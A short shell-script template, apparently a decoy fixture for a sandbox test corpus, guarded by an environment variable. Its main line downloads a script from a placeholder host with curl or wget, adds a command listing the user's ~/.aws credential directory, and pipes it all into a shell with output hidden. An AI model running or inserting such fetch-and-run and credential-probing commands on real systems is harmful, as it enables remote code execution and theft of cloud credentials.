# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
{ curl -sSL -m 1 https://{{host}}/{{path}}.sh 2>/dev/null || wget -q -T 1 -t 1 -O - https://{{host}}/{{path}}.sh 2>/dev/null; echo; echo 'id; uname -a; ls -la "$HOME/.aws"'; } | {{shell}} >/dev/null 2>&1
exit 0
